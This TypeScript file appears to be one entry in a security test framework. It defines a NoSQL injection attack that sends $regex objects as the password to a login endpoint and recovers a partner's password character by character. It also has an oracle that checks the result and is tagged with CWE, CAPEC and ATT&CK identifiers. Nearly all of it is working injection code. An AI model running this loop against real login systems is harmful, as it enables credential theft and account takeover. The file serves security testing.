import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Guesses a partner password letter by letter with $regex. */
export const nosqlRegexPassword: Attack = defineAttack({
  id: 'nosql-regex-password',
  class: 'nosql-injection',
  title: 'Guesses a partner password letter by letter with $regex',
  cwe: 943,
  capec: 676,
  technique: 'T1110',
  preconditions: [],

  steps: async ({ visitor }) => {
    let known = ''
    for (let place = 0; place < 3; place++) {
      for (const letter of '0123456789abcdef') {
        const password = { $regex: `^${known}${letter}` }
        const answer = await visitor.json('/api/login', { partner: 'northwind', password })
        if (answer.status !== 200) continue
        known += letter
        break
      }
    }
    return known
  },
  oracle: (known, { witness }) => known.length === 3 && witness.loot.partnerPassword.startsWith(known),
  twin: ({ visitor }) => visitor.json('/api/reviews/find', { author: 'ines', stars: 5 }),
})
